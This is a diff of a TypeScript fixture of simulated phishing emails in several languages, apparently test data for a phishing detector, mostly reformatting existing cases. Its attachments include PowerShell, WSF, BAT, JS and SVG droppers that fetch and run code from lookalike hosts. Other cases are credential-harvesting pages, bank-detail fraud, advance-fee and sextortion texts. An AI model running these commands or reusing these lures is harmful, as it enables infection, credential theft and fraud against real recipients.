@@ -66,7 +66,16 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'mail.tri-countyfabrication.com [198.51.100.61]',
       body: multipart('mixed', [
         plain('Hi,\n\nPlease see revised PO attached and confirm lead time.\n\nThanks\nDave'),
-        attachment('PO_88214_rev2.zip', 'application/zip', zip({ 'PO_88214_rev2.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w h -nop -c "iex(iwr -useb https://files-dl.tri-cdn.top/p.ps1)"') })),
+        attachment(
+          'PO_88214_rev2.zip',
+          'application/zip',
+          zip({
+            'PO_88214_rev2.pdf.lnk': shortcut(
+              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+              '-w h -nop -c "iex(iwr -useb https://files-dl.tri-cdn.top/p.ps1)"',
+            ),
+          }),
+        ),
       ]),
     }),
   },
@@ -159,7 +168,7 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'a7-14.smtp-out.eu-west-1.amazonses.com [54.240.7.14]',
       body: document([
         'Hi Accounts,',
-        'Here\'s invoice INV-4471 for GBP 18,640.00. The amount outstanding is due on 18 Sep 2025.',
+        "Here's invoice INV-4471 for GBP 18,640.00. The amount outstanding is due on 18 Sep 2025.",
         'IMPORTANT: following our annual audit our bank details have changed. Please pay to our new account only (Harlow Timber Supplies Ltd, sort code 04-00-75, account 41887203) and send the remittance to harlowtimber.accounts@outlook.com. Payments to the old account will be returned.',
         { button: 'View invoice', href: 'https://in.xero.com/Lq7R2kP9vT4mN1wX8bC5dF3hJ6sY0gZaQe' },
         'Thanks,\nHarlow Timber Supplies',
@@ -182,7 +191,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'DB9P193MB1522C1E8A2F4B9D7E0C3A6F5B1E2D@DB9P193MB1522.EURP193.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'mail-db8eur05olkn2104.outbound.protection.outlook.com [40.92.89.104]',
-      body: plain('Hello,\n\nYour consignment from Shenzhen (2 cartons, 18.4 kg) is held at Heathrow pending your EORI number and import duty of £38.20. Please complete both here today to avoid storage charges: https://uk-clearance-portal.icu/entry/UK88412\n\nClearance Desk'),
+      body: plain(
+        'Hello,\n\nYour consignment from Shenzhen (2 cartons, 18.4 kg) is held at Heathrow pending your EORI number and import duty of £38.20. Please complete both here today to avoid storage charges: https://uk-clearance-portal.icu/entry/UK88412\n\nClearance Desk',
+      ),
     }),
   },
   {
@@ -201,7 +212,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['brenmore-it.com:google'],
       relay: 'mail-wm1-f45.google.com [209.85.128.45]',
       auth: { dmarc: 'none' },
-      body: plain('Hi Sophie,\n\nWe have pushed a fix for the Outlook sync error several users reported this morning. Press Windows key + R, paste the line below and press Enter:\n\nmshta https://outlook-syncfix.brenmore-it.com/fix.hta\n\nThanks,\nIT Helpdesk'),
+      body: plain(
+        'Hi Sophie,\n\nWe have pushed a fix for the Outlook sync error several users reported this morning. Press Windows key + R, paste the line below and press Enter:\n\nmshta https://outlook-syncfix.brenmore-it.com/fix.hta\n\nThanks,\nIT Helpdesk',
+      ),
     }),
   },
   {
@@ -221,7 +234,11 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
       body: multipart('mixed', [
         plain(''),
-        attachment('Remittance_Copy_48250.html', 'text/html', credentialPage('Remittance', 'lbates@calloway-electric.com', 'https://rmt-collect.summitcrest-holdings.net/p.php', 'Sign in to view remittance')),
+        attachment(
+          'Remittance_Copy_48250.html',
+          'text/html',
+          credentialPage('Remittance', 'lbates@calloway-electric.com', 'https://rmt-collect.summitcrest-holdings.net/p.php', 'Sign in to view remittance'),
+        ),
       ]),
     }),
   },
@@ -242,12 +259,15 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       returnPath: 'bounce-mc.us21_71833014.2217446-5c1e9a7f20@mail81.atl221.mcsv.net',
       relay: 'mail81.atl221.mcsv.net [198.2.139.81]',
       headers: mailchimpHeaders('lotusflowyoga', 'us21', 'c7a2e91f4b3d08e6a15c7b2d9', 'e4f1a3c90b'),
-      body: document([
-        { heading: 'Unlimited token approval detected' },
-        'A contract was granted unlimited spending of USDC from your wallet. Revoke the approval within 24 hours to keep your funds safe.',
-        { button: 'Connect wallet and revoke', href: 'https://revoke-approvals-cbwallet.xyz/connect' },
-        { small: 'You are receiving this email because you opted in via our website.' },
-      ], { htmlOnly: true }),
+      body: document(
+        [
+          { heading: 'Unlimited token approval detected' },
+          'A contract was granted unlimited spending of USDC from your wallet. Revoke the approval within 24 hours to keep your funds safe.',
+          { button: 'Connect wallet and revoke', href: 'https://revoke-approvals-cbwallet.xyz/connect' },
+          { small: 'You are receiving this email because you opted in via our website.' },
+        ],
+        { htmlOnly: true },
+      ),
     }),
   },
   {
@@ -267,7 +287,12 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['pinecrestdental.com:dk', 'acems1.com:dk'],
       returnPath: 'bounce-2c7e-88214-4471-mwebb=hollowayfreight.com@s12.acems1.com',
       relay: 's12.acems1.com [192.92.97.212]',
-      headers: ['List-Unsubscribe: <https://pinecrestdental.activehosted.com/proc.php?nl=3&c=88214&m=4471&s=2c7e1a9f&act=unsub>', LIST_UNSUBSCRIBE_POST, 'X-mid: bXdlYmJAaG9sbG93YXlmcmVpZ2h0LmNvbQ== c88214 m4471', 'X-Sender: pinecrestdental@activehosted.com'],
+      headers: [
+        'List-Unsubscribe: <https://pinecrestdental.activehosted.com/proc.php?nl=3&c=88214&m=4471&s=2c7e1a9f&act=unsub>',
+        LIST_UNSUBSCRIBE_POST,
+        'X-mid: bXdlYmJAaG9sbG93YXlmcmVpZ2h0LmNvbQ== c88214 m4471',
+        'X-Sender: pinecrestdental@activehosted.com',
+      ],
       body: document([
         'Your phone was removed from Duo Mobile by an administrator. Until you re-enrol, you will not be able to sign in to VPN or email.',
         { button: 'Re-enrol device', href: 'https://duo-enroll-hollowayfreight.cfd/frame/enroll' },
@@ -290,7 +315,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['hr-enrollment-center.com:s1'],
       relay: 'smtp.hr-enrollment-center.com [203.0.113.77]',
       auth: { dmarc: 'none' },
-      body: plain('Hi Karen,\n\nOur records show your 2026 medical and dental selections were not saved. Employees without saved selections default to employee-only coverage on Jan 1. Please confirm with your company login here: https://forms.office.com/r/Qm7Rk2pT9v\n\nBenefits Administration'),
+      body: plain(
+        'Hi Karen,\n\nOur records show your 2026 medical and dental selections were not saved. Employees without saved selections default to employee-only coverage on Jan 1. Please confirm with your company login here: https://forms.office.com/r/Qm7Rk2pT9v\n\nBenefits Administration',
+      ),
     }),
   },
   {
@@ -308,7 +335,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAJ9pQ2xM7vR4tK1wN8bL3cF5dJ6sY0h_mT8qX@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-lj1-f176.google.com [209.85.208.176]',
-      body: gmailBody('Good day,\nI am the attorney to late Mr. Robert Fletcher who died with his family in Valencia and left €6,850,000.00 in a fixed deposit without a will. As you share the same surname, I want to present you as next of kin so the funds can be released to you. Reply with your full name and phone number for details.\nBarrister Alvaro Ruiz'),
+      body: gmailBody(
+        'Good day,\nI am the attorney to late Mr. Robert Fletcher who died with his family in Valencia and left €6,850,000.00 in a fixed deposit without a will. As you share the same surname, I want to present you as next of kin so the funds can be released to you. Reply with your full name and phone number for details.\nBarrister Alvaro Ruiz',
+      ),
     }),
   },
 
@@ -331,7 +360,16 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'smtp.suministros-olmedo.es [198.51.100.23]',
       body: multipart('mixed', [
         plain('Buenos días,\nadjunto justificante.\nSaludos'),
-        attachment('Justificante_SEPA_310325.pdf.html', 'text/html', credentialPage('Justificante', 'contabilidad@talleresgarciaruiz.es', 'https://docs-view.suministros-olmedo.es/wp-admin/js/j.php', 'Inicie sesión para ver el documento')),
+        attachment(
+          'Justificante_SEPA_310325.pdf.html',
+          'text/html',
+          credentialPage(
+            'Justificante',
+            'contabilidad@talleresgarciaruiz.es',
+            'https://docs-view.suministros-olmedo.es/wp-admin/js/j.php',
+            'Inicie sesión para ver el documento',
+          ),
+        ),
       ]),
     }),
   },
@@ -355,7 +393,13 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       body: document([
         { heading: 'Your shipment is on hold' },
         'Estimado cliente: su envío 7748 2190 33 está retenido en aduanas de Madrid. Para liberarlo debe abonar los gastos de gestión aduanera.',
-        { rows: [['Waybill', '7748219033'], ['Amount due', '2,99 EUR'], ['Status', 'On hold – customs']] },
+        {
+          rows: [
+            ['Waybill', '7748219033'],
+            ['Amount due', '2,99 EUR'],
+            ['Status', 'On hold – customs'],
+          ],
+        },
         { button: 'Pay now / Pagar ahora', href: 'https://u39114208.ct.sendgrid.net/ls/click?upn=u001.Lp4Rk7mT2vN9wX1yZ3bC5dF8hJ0' },
         { small: '© 2025 DHL International GmbH. All rights reserved.' },
       ]),
@@ -400,7 +444,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['ariba-network-portal.top:mail'],
       relay: 'mail.ariba-network-portal.top [203.0.113.92]',
       auth: { dmarc: 'none' },
-      body: plain('Estimado proveedor:\n\nSu perfil en Ariba Network no tiene los datos bancarios validados. Si no los actualiza antes del 15/09 su cuenta se bloqueará y las facturas pendientes no se pagarán.\n\nAcceda aquí: https://ariba-network-portal.top/supplier/login\n\nSAP Business Network'),
+      body: plain(
+        'Estimado proveedor:\n\nSu perfil en Ariba Network no tiene los datos bancarios validados. Si no los actualiza antes del 15/09 su cuenta se bloqueará y las facturas pendientes no se pagarán.\n\nAcceda aquí: https://ariba-network-portal.top/supplier/login\n\nSAP Business Network',
+      ),
     }),
   },
   {
@@ -418,7 +464,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: '1750147960.41187@seg-social-sede.icu',
       relay: 'srv1.seg-social-sede.icu [203.0.113.58]',
       auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
-      body: plain('Se le comunica que, por deuda de cotizaciones del 4.º trimestre de 2024, se ha dictado diligencia de embargo de sus cuentas bancarias. Puede consultar el expediente y abonar la deuda antes de su ejecución en: https://seg-social-sede.icu/expediente/0041187\n\nUnidad de Recaudación Ejecutiva'),
+      body: plain(
+        'Se le comunica que, por deuda de cotizaciones del 4.º trimestre de 2024, se ha dictado diligencia de embargo de sus cuentas bancarias. Puede consultar el expediente y abonar la deuda antes de su ejecución en: https://seg-social-sede.icu/expediente/0041187\n\nUnidad de Recaudación Ejecutiva',
+      ),
     }),
   },
   {
@@ -439,7 +487,15 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'mx0.slc.paypal.com [173.0.84.226]',
       body: document([
         { heading: 'Soporte Tecnico Microsoft sent you a request for €489.00 EUR' },
-        { rows: [['Note from Soporte Tecnico Microsoft', 'Su licencia de Microsoft 365 se ha renovado por 3 años. Si no ha autorizado este cargo llame al +34 910 48 27 66 para la cancelación y el reembolso. No pague por PayPal.'], ['Amount requested', '€489.00 EUR']] },
+        {
+          rows: [
+            [
+              'Note from Soporte Tecnico Microsoft',
+              'Su licencia de Microsoft 365 se ha renovado por 3 años. Si no ha autorizado este cargo llame al +34 910 48 27 66 para la cancelación y el reembolso. No pague por PayPal.',
+            ],
+            ['Amount requested', '€489.00 EUR'],
+          ],
+        },
         { button: 'Pay Now', href: 'https://www.paypal.com/myaccount/transfer/requests/RT000248?locale.x=es_ES' },
         { small: 'PayPal Europe S.à r.l. et Cie, S.C.A.' },
       ]),
@@ -460,7 +516,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'AM7P189MB0993F2C1A8E4B7D9C0E5F3A6B2D1C@AM7P189MB0993.EURP189.PROD.OUTLOOK.COM',
       dkim: ['hotmail.com:selector1'],
       relay: 'mail-am7eur03olkn2019.outbound.protection.outlook.com [40.92.59.19]',
-      body: plain('Estimada Sra. Ortega:\n\nLe escribo como notario encargado de la herencia de D. Ernesto Ortega, fallecido en Toronto sin testamento, con un saldo de 2.370.000 € en un banco canadiense. Al compartir su apellido puede usted figurar como beneficiaria. Para iniciar el trámite envíeme copia de su DNI y un teléfono de contacto.\n\nAtentamente,\nIgnacio Beltrán, notario'),
+      body: plain(
+        'Estimada Sra. Ortega:\n\nLe escribo como notario encargado de la herencia de D. Ernesto Ortega, fallecido en Toronto sin testamento, con un saldo de 2.370.000 € en un banco canadiense. Al compartir su apellido puede usted figurar como beneficiaria. Para iniciar el trámite envíeme copia de su DNI y un teléfono de contacto.\n\nAtentamente,\nIgnacio Beltrán, notario',
+      ),
     }),
   },
   {
@@ -480,7 +538,14 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'smtp.transporteslafuente.com [198.51.100.144]',
       body: multipart('mixed', [
         plain('Buenos días, os paso el albarán firmado y el CMR de la entrega de hoy.\nUn saludo'),
-        attachment('Albaran_CMR_1410.zip', 'application/zip', zip({ 'Albaran_CMR_1410.pdf.wsf': '<job id="a"><script language="JScript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -c iex(iwr -useb https://cdn-docs-cmr.top/a.ps1)",0);</script></job>' })),
+        attachment(
+          'Albaran_CMR_1410.zip',
+          'application/zip',
+          zip({
+            'Albaran_CMR_1410.pdf.wsf':
+              '<job id="a"><script language="JScript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -c iex(iwr -useb https://cdn-docs-cmr.top/a.ps1)",0);</script></job>',
+          }),
+        ),
       ]),
     }),
   },
@@ -499,10 +564,7 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAK2mP9xQ7vR4tL1wN8bJ3cF5dH6sY0i_nT9rX@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-ed1-f49.google.com [209.85.208.49]',
-      body: multipart('mixed', [
-        plain('Escanee el código con su móvil para firmar el convenio.'),
-        attachment('convenio.png', 'image/png', ES_QR, true),
-      ]),
+      body: multipart('mixed', [plain('Escanee el código con su móvil para firmar el convenio.'), attachment('convenio.png', 'image/png', ES_QR, true)]),
     }),
   },
 
@@ -524,7 +586,14 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'smtp.distribuidoraipe.com.br [198.51.100.202]',
       body: multipart('mixed', [
         plain('Bom dia,\nsegue DANFE e XML da NF-e 38221.\nAtt.'),
-        attachment('NFe_38221.zip', 'application/zip', zip({ 'DANFE_38221.pdf.bat': '@echo off\r\npowershell -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'https://nfe-xml-download.sbs/d.ps1\')"\r\n' })),
+        attachment(
+          'NFe_38221.zip',
+          'application/zip',
+          zip({
+            'DANFE_38221.pdf.bat':
+              '@echo off\r\npowershell -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'https://nfe-xml-download.sbs/d.ps1\')"\r\n',
+          }),
+        ),
       ]),
     }),
   },
@@ -571,7 +640,10 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
         { heading: 'Microsoft account' },
         'Password expiration notice',
         'A senha da conta felipe.costa@aguiarlogistica.com.br expira hoje. Para manter a mesma senha e não perder o acesso ao e-mail, confirme abaixo.',
-        { button: 'Keep current password', href: 'https://contabilidadeaguiar.com.br/wp-content/uploads/2025/07/m365/index.php?e=felipe.costa@aguiarlogistica.com.br' },
+        {
+          button: 'Keep current password',
+          href: 'https://contabilidadeaguiar.com.br/wp-content/uploads/2025/07/m365/index.php?e=felipe.costa@aguiarlogistica.com.br',
+        },
         { small: 'Thanks, The Microsoft account team' },
       ]),
     }),
@@ -591,7 +663,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAM5qR2xP8vT4mK1wN7bL3cF9dJ6sY0j_pT2sX@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-qt1-f170.google.com [209.85.160.170]',
-      body: gmailBody('Prezados,\nConvidamos sua empresa a cotar os itens da RFQ 7004418823 (válvulas esfera 2" e 4"). A lista de itens e o prazo estão no portal Petronect: https://petronect-fornecedores.top/rfq/7004418823\nEntrar com o e-mail e a senha da empresa.\nAtenciosamente,\nGerência de Suprimentos'),
+      body: gmailBody(
+        'Prezados,\nConvidamos sua empresa a cotar os itens da RFQ 7004418823 (válvulas esfera 2" e 4"). A lista de itens e o prazo estão no portal Petronect: https://petronect-fornecedores.top/rfq/7004418823\nEntrar com o e-mail e a senha da empresa.\nAtenciosamente,\nGerência de Suprimentos',
+      ),
     }),
   },
   {
@@ -610,7 +684,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['meuinss-reembolso.icu:mail'],
       relay: 'mail.meuinss-reembolso.icu [203.0.113.201]',
       auth: { dmarc: 'none' },
-      body: plain('Prezada segurada,\n\nIdentificamos descontos de mensalidade associativa não autorizados no seu benefício. Você tem direito ao reembolso de R$ 1.286,40. Acesse com sua conta gov.br para solicitar até 30/05: https://meuinss-reembolso.icu/gov.br/login\n\nINSS'),
+      body: plain(
+        'Prezada segurada,\n\nIdentificamos descontos de mensalidade associativa não autorizados no seu benefício. Você tem direito ao reembolso de R$ 1.286,40. Acesse com sua conta gov.br para solicitar até 30/05: https://meuinss-reembolso.icu/gov.br/login\n\nINSS',
+      ),
     }),
   },
   {
@@ -628,7 +704,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CP4P284MB1877A2C9F1E8B4D7C3E0A5F6B2D9E@CP4P284MB1877.BRAP284.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'mail-cp4bra01olkn2044.outbound.protection.outlook.com [40.92.42.44]',
-      body: plain('Rodrigo, sua senha é Flamengo@2019. Tenho acesso ao seu computador há meses e gravei você pela câmera enquanto via sites adultos. Se não quiser que o vídeo vá para todos os seus contatos, envie R$ 6.500 em bitcoin para bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3 em 48 horas. Não responda este e-mail.'),
+      body: plain(
+        'Rodrigo, sua senha é Flamengo@2019. Tenho acesso ao seu computador há meses e gravei você pela câmera enquanto via sites adultos. Se não quiser que o vídeo vá para todos os seus contatos, envie R$ 6.500 em bitcoin para bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3 em 48 horas. Não responda este e-mail.',
+      ),
     }),
   },
   {
@@ -696,7 +774,11 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'mail.ferreiramatos-contas.pt [198.51.100.118]',
       body: multipart('mixed', [
         plain('Boa tarde, segue em anexo a fatura para pagamento.'),
-        attachment('FT_2025-1183.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="10" y="40">A carregar fatura…</text><script><![CDATA[window.location.href=atob("aHR0cHM6Ly9mYXR1cmEtdmlldy5jZmQvbG9naW4=")+"#ana.rebelo@quintadosol-vinhos.pt";]]></script></svg>'),
+        attachment(
+          'FT_2025-1183.svg',
+          'image/svg+xml',
+          '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="10" y="40">A carregar fatura…</text><script><![CDATA[window.location.href=atob("aHR0cHM6Ly9mYXR1cmEtdmlldy5jZmQvbG9naW4=")+"#ana.rebelo@quintadosol-vinhos.pt";]]></script></svg>',
+        ),
       ]),
     }),
   },
@@ -716,7 +798,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['contratacao-publica-base.cfd:default'],
       relay: 'mail.contratacao-publica-base.cfd [203.0.113.166]',
       auth: { dmarc: 'none' },
-      body: plain('Exmos. Senhores,\n\nA entidade adjudicante convida V. Exas. a apresentar proposta no procedimento em epígrafe. As peças do procedimento estão disponíveis na plataforma, mediante autenticação com o e-mail da empresa: https://contratacao-publica-base.cfd/procedimento/118-2025\n\nPrazo para propostas: 25/03/2025, 17h00.'),
+      body: plain(
+        'Exmos. Senhores,\n\nA entidade adjudicante convida V. Exas. a apresentar proposta no procedimento em epígrafe. As peças do procedimento estão disponíveis na plataforma, mediante autenticação com o e-mail da empresa: https://contratacao-publica-base.cfd/procedimento/118-2025\n\nPrazo para propostas: 25/03/2025, 17h00.',
+      ),
     }),
   },
   {
@@ -734,7 +818,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['montepio-clientes.icu:mail'],
       relay: 'mail.montepio-clientes.icu [203.0.113.37]',
       auth: { dmarc: 'none' },
-      body: plain('Caro cliente,\n\nAo abrigo do RGPD, os seus dados de contacto têm de ser confirmados até sexta-feira. Após esta data o acesso ao Montepio24 e os cartões ficam congelados.\n\nConfirme aqui: https://montepio-clientes.icu/m24/login\n\nBanco Montepio'),
+      body: plain(
+        'Caro cliente,\n\nAo abrigo do RGPD, os seus dados de contacto têm de ser confirmados até sexta-feira. Após esta data o acesso ao Montepio24 e os cartões ficam congelados.\n\nConfirme aqui: https://montepio-clientes.icu/m24/login\n\nBanco Montepio',
+      ),
     }),
   },
   {
@@ -778,7 +864,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAP7sT4xR2vQ9mK1wL8bN5cH3dJ6sY0l_rV4uX@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-wr1-f44.google.com [209.85.221.44]',
-      body: gmailBody('Boa tarde Sr. Paulo,\nComo falado, a plataforma de criptomoedas que o nosso futebolista apresentou na televisão transformou 250 € em 4 800 € em três semanas aos nossos clientes. O seu lugar está reservado até domingo: basta o depósito inicial de 250 € e o seu gestor trata do resto.\nFale comigo no WhatsApp +351 932 114 870.\nSofia Antunes, gestora de conta'),
+      body: gmailBody(
+        'Boa tarde Sr. Paulo,\nComo falado, a plataforma de criptomoedas que o nosso futebolista apresentou na televisão transformou 250 € em 4 800 € em três semanas aos nossos clientes. O seu lugar está reservado até domingo: basta o depósito inicial de 250 € e o seu gestor trata do resto.\nFale comigo no WhatsApp +351 932 114 870.\nSofia Antunes, gestora de conta',
+      ),
     }),
   },
 
@@ -798,7 +886,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'e1f7a3c9-2b4d-4e6a-8c1f-9d0b2e7f4a58@ib-brandt-soehne.de',
       dkim: ['ib-brandt-soehne.de:default'],
       relay: 'mx.ib-brandt-soehne.de [198.51.100.186]',
-      body: plain('Sehr geehrte Damen und Herren,\n\nim Auftrag der Gemeinde bitten wir um Ihr Angebot für die Sanierung des Flachdachs der Kita Sonnenschein. Die Vergabeunterlagen (LV, Pläne) stehen hier zum Download bereit, Anmeldung mit Ihrer Firmen-E-Mail:\nhttps://vergabe-dokumente.shop/ib-brandt/lv-2025-051\n\nAngebotsfrist: 23.05.2025\n\nMit freundlichen Grüßen\nIngenieurbüro Brandt & Söhne'),
+      body: plain(
+        'Sehr geehrte Damen und Herren,\n\nim Auftrag der Gemeinde bitten wir um Ihr Angebot für die Sanierung des Flachdachs der Kita Sonnenschein. Die Vergabeunterlagen (LV, Pläne) stehen hier zum Download bereit, Anmeldung mit Ihrer Firmen-E-Mail:\nhttps://vergabe-dokumente.shop/ib-brandt/lv-2025-051\n\nAngebotsfrist: 23.05.2025\n\nMit freundlichen Grüßen\nIngenieurbüro Brandt & Söhne',
+      ),
     }),
   },
   {
@@ -865,7 +955,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['tollcollect-maut.top:mail'],
       relay: 'mail.tollcollect-maut.top [203.0.113.57]',
       auth: { dmarc: 'none' },
-      body: plain('Sehr geehrte Damen und Herren,\n\nfür das Fahrzeug MI-KR 412 ist eine Mautforderung von 184,60 € offen (Fahrten 01.–05.09.2025). Bitte begleichen Sie den Betrag bis 12.09., sonst wird ein Bußgeldverfahren beim BALM eingeleitet.\n\nZahlung: https://tollcollect-maut.top/zahlung/MIKR412\n\nToll Collect GmbH'),
+      body: plain(
+        'Sehr geehrte Damen und Herren,\n\nfür das Fahrzeug MI-KR 412 ist eine Mautforderung von 184,60 € offen (Fahrten 01.–05.09.2025). Bitte begleichen Sie den Betrag bis 12.09., sonst wird ein Bußgeldverfahren beim BALM eingeleitet.\n\nZahlung: https://tollcollect-maut.top/zahlung/MIKR412\n\nToll Collect GmbH',
+      ),
     }),
   },
   {
@@ -886,7 +978,15 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'mx2.phx.paypal.com [66.211.170.87]',
       body: document([
         { heading: 'PayPal Kaeuferschutz hat Ihnen eine Zahlungsaufforderung gesendet' },
-        { rows: [['Mitteilung', 'Für Ihr Konto wurde eine Zahlung von 699,00 € an Apple Store autorisiert. Falls Sie das nicht waren, rufen Sie sofort unseren Käuferschutz unter 0800 184 7722 an. Nicht online bezahlen.'], ['Betrag', '699,00 €']] },
+        {
+          rows: [
+            [
+              'Mitteilung',
+              'Für Ihr Konto wurde eine Zahlung von 699,00 € an Apple Store autorisiert. Falls Sie das nicht waren, rufen Sie sofort unseren Käuferschutz unter 0800 184 7722 an. Nicht online bezahlen.',
+            ],
+            ['Betrag', '699,00 €'],
+          ],
+        },
         { button: 'Jetzt bezahlen', href: 'https://www.paypal.com/myaccount/transfer/requests/RT000991?locale.x=de_DE' },
       ]),
     }),
@@ -908,8 +1008,17 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       relay: 'mail.metallbau-keller.de [198.51.100.31]',
       headers: ['In-Reply-To: <a7c1e9f3b2d4@schlosserei-albrecht.de>', 'References: <a7c1e9f3b2d4@schlosserei-albrecht.de>'],
       body: multipart('mixed', [
-        plain('Hallo Jens,\n\nanbei die Unterlagen wie besprochen. Passwort: 2025\n\nGruß Sandra\n\n-----Ursprüngliche Nachricht-----\nVon: Jens Albrecht\nGesendet: Montag, 10. November 2025 14:02\nBetreff: Rechnung 2025-117\n\nHallo Sandra, kannst du mir die Rechnung nochmal schicken? Danke, Jens'),
-        attachment('Unterlagen_2025-117.zip', 'application/zip', zip({ 'Unterlagen_2025-117.js': 'var s=WScript.CreateObject("WScript.Shell");s.Run("curl -s https://cdn-upd.metallbau-sync.top/u.dat -o %TEMP%\\\\u.dll & rundll32 %TEMP%\\\\u.dll,Init",0);' })),
+        plain(
+          'Hallo Jens,\n\nanbei die Unterlagen wie besprochen. Passwort: 2025\n\nGruß Sandra\n\n-----Ursprüngliche Nachricht-----\nVon: Jens Albrecht\nGesendet: Montag, 10. November 2025 14:02\nBetreff: Rechnung 2025-117\n\nHallo Sandra, kannst du mir die Rechnung nochmal schicken? Danke, Jens',
+        ),
+        attachment(
+          'Unterlagen_2025-117.zip',
+          'application/zip',
+          zip({
+            'Unterlagen_2025-117.js':
+              'var s=WScript.CreateObject("WScript.Shell");s.Run("curl -s https://cdn-upd.metallbau-sync.top/u.dat -o %TEMP%\\\\u.dll & rundll32 %TEMP%\\\\u.dll,Init",0);',
+          }),
+        ),
       ]),
     }),
   },
@@ -931,7 +1040,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['chorus-pro-factures.top:mail'],
       relay: 'mail.chorus-pro-factures.top [203.0.113.71]',
       auth: { dmarc: 'none' },
-      body: plain('Bonjour,\n\nVotre facture FA-2025-0612 déposée sur Chorus Pro a été rejetée par le service destinataire (motif : coordonnées bancaires non vérifiées). Connectez-vous sous 5 jours pour la corriger, faute de quoi elle sera archivée :\nhttps://chorus-pro-factures.top/connexion\n\nL\'équipe Chorus Pro'),
+      body: plain(
+        "Bonjour,\n\nVotre facture FA-2025-0612 déposée sur Chorus Pro a été rejetée par le service destinataire (motif : coordonnées bancaires non vérifiées). Connectez-vous sous 5 jours pour la corriger, faute de quoi elle sera archivée :\nhttps://chorus-pro-factures.top/connexion\n\nL'équipe Chorus Pro",
+      ),
     }),
   },
   {
@@ -954,7 +1065,10 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
         'Nathalie Dupuis shared a file with you',
         'Bonjour, veuillez trouver le document de paiement en attente. Merci de vous connecter pour le consulter et valider vos coordonnées avant ce soir.',
         { button: 'Open', href: 'https://cabinetdupuis-my.sharepoint.com/:b:/g/personal/n_dupuis_cabinetdupuis_fr/EQk7Rm2pT9vN4wX1yZ3bC5dF8hJ0?e=4Lq9xZ' },
-        { small: 'Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052' },
+        {
+          small:
+            'Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
+        },
       ]),
     }),
   },
@@ -974,7 +1088,9 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       dkim: ['urssaf-regularisation.icu:mail'],
       relay: 'mail.urssaf-regularisation.icu [203.0.113.98]',
       auth: { dmarc: 'none' },
-      body: plain('Madame, Monsieur,\n\nUn écart de 1 284,00 € a été constaté sur vos déclarations sociales 2024. Sans régularisation sous 48 heures, une majoration de 10 % et une procédure de recouvrement forcé seront engagées.\n\nRégulariser : https://urssaf-regularisation.icu/espace/regul\n\nService recouvrement'),
+      body: plain(
+        'Madame, Monsieur,\n\nUn écart de 1 284,00 € a été constaté sur vos déclarations sociales 2024. Sans régularisation sous 48 heures, une majoration de 10 % et une procédure de recouvrement forcé seront engagées.\n\nRégulariser : https://urssaf-regularisation.icu/espace/regul\n\nService recouvrement',
+      ),
     }),
   },
   {
@@ -991,13 +1107,15 @@ export const FOURTH_CASES: readonly PhishingCase[] = [
       messageId: 'trinity-8c1e3a5f-7b9d-4f2e-a1c3-5e7f9a1b3c5d-1745199777@3c-app-gmx-bap41',
